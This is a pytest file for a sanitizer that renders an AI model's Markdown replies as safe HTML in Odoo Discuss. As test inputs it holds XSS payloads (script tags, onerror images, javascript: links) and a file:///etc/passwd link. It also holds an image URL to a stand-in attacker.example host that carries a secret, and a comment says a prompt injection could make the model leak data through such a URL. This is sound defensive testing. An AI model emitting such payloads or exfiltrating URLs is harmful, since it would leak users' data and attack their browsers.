"""Discuss replies: the model's Markdown as HTML that cannot run or fetch anything."""

from __future__ import annotations

import pytest

from services.markdown_html import markdown_to_html


def test_the_usual_answer_shapes_render() -> None:
    html = markdown_to_html("## Result\n\n**3 orders** are `late`:\n\n- SO001\n- SO002\n\n```\nraw\n```")
    assert "<h2>Result</h2>" in html
    assert "<strong>3 orders</strong> are <code>late</code>" in html
    assert "<ul>\n<li>SO001</li>\n<li>SO002</li>\n</ul>" in html
    assert "<pre><code>raw\n</code></pre>" in html


def test_a_newline_is_a_line_break_as_in_the_chat_widget() -> None:
    assert markdown_to_html("one\ntwo") == "<p>one<br />\ntwo</p>\n"


def test_raw_html_is_shown_as_text() -> None:
    html = markdown_to_html('<script>alert(1)</script> <img src=x onerror="alert(1)">')
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x", "file:///etc/passwd", "/web#x"]
)
def test_links_to_anything_but_the_web_or_mail_stay_text(target: str) -> None:
    html = markdown_to_html(f"[click]({target})")
    assert "<a" not in html
    assert "[click]" in html


def test_web_and_mail_links_are_links() -> None:
    html = markdown_to_html("[docs](https://example.com/a?b=1) and [me](mailto:a@example.com)")
    assert '<a href="https://example.com/a?b=1">docs</a>' in html
    assert '<a href="mailto:a@example.com">me</a>' in html


def test_images_are_never_loaded_only_linked() -> None:
    # an injected instruction could put data in the URL: every reader's browser would send it
    html = markdown_to_html("![chart](https://attacker.example/pixel.png?d=secret)")
    assert "<img" not in html
    assert '<a href="https://attacker.example/pixel.png?d=secret">chart</a>' in html, "fetched only if clicked"


def test_tables_render_with_their_alignment() -> None:
    html = markdown_to_html("Orders:\n\n| Name | Total |\n| :--- | ---: |\n| **SO1** | 10 |")
    assert "<table>" in html
    assert '<th style="text-align:left">Name</th>' in html
    assert '<td style="text-align:left"><strong>SO1</strong></td>' in html
    assert '<td style="text-align:right">10</td>' in html


@pytest.mark.parametrize(
    "cell",
    ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](/web#id=1)"],
)
def test_a_table_cell_stays_inert(cell: str) -> None:
    html = markdown_to_html(f"| a |\n| --- |\n| {cell} |")
    assert "<td>" in html
    assert "<script" not in html and "<img" not in html and "<a" not in html


def test_a_record_link_opens_the_record_in_discuss() -> None:
    html = markdown_to_html("| Partner |\n| --- |\n| [Azure Interior](/odoo/res.partner/14) |")
    assert '<a href="/odoo/res.partner/14" data-oe-model="res.partner" data-oe-id="14">Azure Interior</a>' in html


@pytest.mark.parametrize(
    "target", ["/odoo/res.partner/14/edit", "/odoo/action-12/3", "/odoo/res.partner/0", "//odoo/res.partner/1"]
)
def test_other_odoo_paths_stay_text(target: str) -> None:
    html = markdown_to_html(f"[x]({target})")
    assert "<a" not in html
